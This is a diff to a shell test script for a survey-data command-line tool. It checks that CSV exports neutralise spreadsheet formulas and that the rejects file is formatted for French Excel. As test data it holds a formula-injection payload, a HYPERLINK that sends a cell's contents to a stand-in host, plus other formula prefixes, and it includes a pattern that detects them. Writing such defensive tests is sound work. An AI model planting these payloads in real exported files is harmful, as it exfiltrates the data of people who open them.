@@ -73,4 +73,59 @@ rm full.xlsx
 $PY "$CHECK_XLSX" w.xlsx --sheets $(($(grep -c '^table,' reports/demo.csv) + 2)) \
   || fail "the workbook written after the failures is not whole"
 
+# ---- no formula in any CSV; CSV for people opens in a French Excel -----------------------
+# three answers a spreadsheet would run as formulas, and a rejected row keyed by a fourth
+$PY - "$EX/centre_social.csv" <<'PYEOF'
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
+head = rows[0]
+out = [head]
+formulas = ['=HYPERLINK("http://x?d="&A1;"x")', "+SUM(1,1)", "@SUM(1+1)"]
+for f, r in zip(formulas, rows[1:4]):
+    r = list(r)
+    r[head.index("fonction_repondant")] = f
+    out.append(r)
+bad = list(rows[4])
+bad[head.index("siret")] = "123"
+bad[head.index("start")] = "-2+3"
+bad[head.index("KEY")] = '=HYPERLINK("http://x?d="&A1;"x")'
+out.append(bad)
+csv.writer(open("formulas.csv", "w", newline="", encoding="utf-8")).writerows(out)
+PYEOF
+"$PN_BIN" --db f.db init >/dev/null
+"$PN_BIN" --db f.db import --form centre_social formulas.csv >/dev/null 2>&1
+"$PN_BIN" --db f.db tab fonction_repondant --format csv >tab.csv
+"$PN_BIN" --db f.db rejects --format csv >rejects.csv
+$PY - <<'PYEOF' || fail "a CSV holds a formula, or the CSV for people is not for Excel"
+import csv, re, sys
+number = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
+def check(name, rows):
+    for row in rows:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(cell):
+                sys.exit("%s: the cell %r can be read as a formula" % (name, cell))
+# tab --format csv: for scripts, as before (UTF-8 without BOM, ',', LF)
+raw = open("tab.csv", "rb").read()
+assert not raw.startswith(b"\xef\xbb\xbf") and b"\r\n" not in raw, "tab csv changed its form"
+tab = list(csv.reader(raw.decode("utf-8").splitlines()))
+assert tab[0] == "table,var,by,row,col,measure,value".split(","), tab[0]
+check("tab.csv", tab)
+rows = {r[3] for r in tab[1:]}
+for want in ["'=HYPERLINK(\"http://x?d=\"&A1;\"x\")", "'+SUM(1,1)", "'@SUM(1+1)"]:
+    assert want in rows, "tab csv lacks %r: %r" % (want, rows)
+# numbers stay numbers
+assert any(r[5] == "n" and r[6] == "1" for r in tab[1:])
+# rejects --format csv: for people (UTF-8 with BOM, ';', CRLF), French header
+raw = open("rejects.csv", "rb").read()
+assert raw.startswith(b"\xef\xbb\xbf"), "rejects csv has no byte order mark"
+assert raw.count(b"\r\n") == raw.count(b"\n"), "rejects csv lines do not end with CRLF"
+rej = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
+assert rej[0] == ["formulaire", "fichier", "ligne", "clé", "motifs", "ligne d'origine"], rej[0]
+assert len(rej) == 2, rej
+check("rejects.csv", rej)
+assert rej[1][3] == "'=HYPERLINK(\"http://x?d=\"&A1;\"x\")", rej[1]
+assert rej[1][5].startswith("'-2+3,"), rej[1][5]
+assert rej[1][2] == "5", rej[1]
+PYEOF
+
 echo "outputs: ok"
